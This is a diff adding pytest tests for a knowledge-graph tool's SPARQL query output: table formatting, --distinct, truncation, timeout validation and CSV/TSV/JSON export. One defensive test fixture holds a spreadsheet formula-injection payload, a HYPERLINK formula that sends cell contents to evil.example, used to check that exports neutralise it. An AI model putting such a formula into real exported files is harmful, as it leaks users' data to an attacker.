@@ -135,7 +135,7 @@ def test_sparql_results_json(hand, capsys):
 
 def test_table_is_aligned_and_counts_rows(hand, capsys):
     code, out, err = kg(capsys, "query", "positions", "--store", hand)
-    assert code == 0 and "3 row(s)" in err
+    assert code == 0 and err.startswith("3 rows")
     lines = [l for l in out.splitlines() if l.strip()]
     assert len({len(l) for l in lines}) == 1, "every line of the table has the same width"
     header = next(l for l in lines if "person" in l)
@@ -244,3 +244,136 @@ def test_errors_from_the_child_process_are_the_same(hand):
 def test_timeout_must_be_positive(hand):
     with pytest.raises(QueryError, match="timeout 0"):
         run_query(hand, PEOPLE, timeout=0)
+
+
+# -- set semantics, readable tables ----------------------------------------------------------------
+
+LABELS = "SELECT ?name WHERE { ?p a kg:Person ; rdfs:label ?name } ORDER BY ?name"
+
+
+def test_union_default_graph_repeats_a_fact_per_article_and_distinct_prints_it_once(hand, capsys):
+    # Anna Berg is in both articles: her type and her label each match once per article graph,
+    # so she comes 2 x 2 = 4 times; everyone else is in one article
+    code, out, err = kg(capsys, "query", LABELS, "--store", hand, "--format", "csv")
+    assert code == 0
+    names = [r[0] for r in csv.reader(io.StringIO(out))][1:]
+    assert names.count("Anna Berg") == 4 and len(names) == len(NAMES) + 3
+    code, out, err = kg(capsys, "query", LABELS, "--store", hand, "--format", "csv", "--distinct")
+    assert code == 0
+    assert [r[0] for r in csv.reader(io.StringIO(out))] == ["name"] + NAMES
+
+
+def test_table_footer_counts_rows_and_points_to_distinct(hand, capsys):
+    code, out, err = kg(capsys, "query", LABELS, "--store", hand)
+    assert code == 0
+    assert err.startswith(f"{len(NAMES) + 3} rows; 3 repeat an earlier row") and "--distinct" in err
+    code, out, err = kg(capsys, "query", LABELS, "--store", hand, "--distinct")
+    assert code == 0 and err.startswith(f"{len(NAMES)} rows (3 repeated rows left out by --distinct)")
+    code, out, err = kg(capsys, "query", "SELECT ?name WHERE { ?p rdfs:label ?name ; rdfs:label 'Eva Lind' }",
+                        "--store", hand)
+    assert code == 0 and err == "1 row\n"
+
+
+def test_table_shows_names_for_iris_and_iris_on_request(hand, capsys):
+    q = "SELECT DISTINCT ?p ?article WHERE { ?p a kg:Person ; rdfs:label 'Eva Lind' ; kg:mentionedIn ?article }"
+    code, out, _ = kg(capsys, "query", q, "--store", hand)
+    assert code == 0
+    row = next(line for line in out.splitlines() if "Eva Lind" in line)
+    assert "talks-1" in row and "http" not in out  # the person by name, the article by its id
+    code, out, _ = kg(capsys, "query", q, "--store", hand, "--iris")
+    assert code == 0 and f"{qf.BASE}person/eva-lind" in out
+
+
+def test_table_cuts_long_values_and_csv_keeps_them(hand, capsys):
+    from kg.results import CELL_WIDTH
+
+    q = "SELECT DISTINCT ?sentence WHERE { ?e kg:sentence ?sentence } ORDER BY DESC(STRLEN(?sentence)) LIMIT 1"
+    code, out, err = kg(capsys, "query", q, "--store", hand, "--format", "csv")
+    (full,) = [r[0] for r in csv.reader(io.StringIO(out))][1:]
+    assert len(full) > CELL_WIDTH
+    code, out, err = kg(capsys, "query", q, "--store", hand)
+    (row,) = [line for line in out.splitlines() if full[:20] in line]
+    cell = row.strip("│ ")
+    assert cell.endswith("…") and len(cell) == CELL_WIDTH and full.startswith(cell[:-1].rstrip())
+    assert "1 long value cut" in err and "--format csv or json" in err
+
+
+def test_table_leaves_out_columns_that_are_empty_in_every_row(hand, capsys):
+    code, out, err = kg(capsys, "query", "positions", "--store", hand)
+    header = next(line for line in out.splitlines() if "person" in line)
+    assert "holder" in header and "actor" not in header  # the unbound optional parameter
+    assert "empty column not shown: actor" in err
+    code, out, _ = kg(capsys, "query", "positions", "--store", hand, "--format", "csv")
+    assert next(csv.reader(io.StringIO(out)))[-1] == "actor"  # other formats keep every column
+
+
+@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "1e308", "0", "-1"])
+def test_bad_timeouts_are_usage_errors(hand, capsys, value):
+    code, out, err = kg(capsys, "query", "ASK {}", "--store", hand, "--timeout", value)
+    assert code == 2 and out == ""
+    assert len(err.splitlines()) == 1 and err.startswith(f"kg: error: --timeout {float(value):g}:")
+    assert "expected a number of seconds above 0" in err
+
+
+# -- spreadsheet formula injection -------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@A1"]
+
+
+@pytest.fixture(scope="module")
+def formula_store(tmp_path_factory):
+    from kg.rdf.mapping import extraction_to_graph
+    from kg.records import Document, Entity, Extraction
+
+    path = tmp_path_factory.mktemp("formulas") / "store"
+    st = open_store(path)
+    ents = tuple(Entity(f"e{i}", "Person", name) for i, name in enumerate(FORMULAS))
+    st.add_graphs([extraction_to_graph(Extraction(Document("f", "text"), entities=ents), base=qf.BASE)])
+    st.close()
+    return path
+
+
+FORMULA_QUERY = "SELECT ?name (-5 AS ?n) WHERE { ?p a kg:Person ; rdfs:label ?name } ORDER BY ?name"
+
+
+def test_csv_neutralises_formula_cells_but_not_negative_numbers(formula_store, capsys):
+    code, out, _ = kg(capsys, "query", FORMULA_QUERY, "--store", formula_store, "--format", "csv")
+    assert code == 0
+    rows = list(csv.reader(io.StringIO(out)))[1:]
+    assert sorted(r[0] for r in rows) == sorted("'" + f for f in FORMULAS)
+    assert {r[1] for r in rows} == {"-5"}
+
+
+def test_tsv_neutralises_formula_cells_but_not_negative_numbers(formula_store, capsys):
+    code, out, _ = kg(capsys, "query", FORMULA_QUERY, "--store", formula_store, "--format", "tsv")
+    assert code == 0
+    rows = [line.split("\t") for line in out.rstrip("\n").split("\n")[1:]]
+    assert all(r[0].startswith("\"'") and r[0][2:3] in "=+-@" for r in rows) and len(rows) == len(FORMULAS)
+    assert {r[1] for r in rows} == {"-5"}
+
+
+def test_json_keeps_formula_like_values_exact(formula_store, capsys):
+    code, out, _ = kg(capsys, "query", FORMULA_QUERY, "--store", formula_store, "--format", "json")
+    assert code == 0
+    assert sorted(b["name"]["value"] for b in json.loads(out)["results"]["bindings"]) == sorted(FORMULAS)
+
+
+def test_table_fits_a_120_column_terminal_one_line_per_row():
+    # quotations used to wrap two words a line at 120 columns: now each row is one line, the long
+    # columns are cut to fit and the short ones (dates, names) keep their width
+    from rich.cells import cell_len
+
+    from kg.results import write_table
+
+    long = "We have found common ground on agriculture and on digital trade, and there is more to do " * 2
+    rows = [(ox.Literal("Helen Marsh"), ox.Literal(long), ox.Literal("direct"), ox.Literal(long),
+             ox.Literal("2025-03-10"), ox.NamedNode("http://example.org/kg/quotation/84fa90b49060ff725984"))] * 3
+    out = io.StringIO()
+    info = write_table(["speaker", "quote", "kind", "sentence", "date", "quotation"], rows, out, prefixes={},
+                       width=120)
+    lines = out.getvalue().splitlines()
+    assert len(lines) == 3 + 4  # top border, header, rule, three rows, bottom border
+    assert max(cell_len(line) for line in lines) <= 120
+    row = lines[3]
+    assert "Helen Marsh" in row and "2025-03-10" in row and "direct" in row and "…" in row
+    assert info.cut >= 6
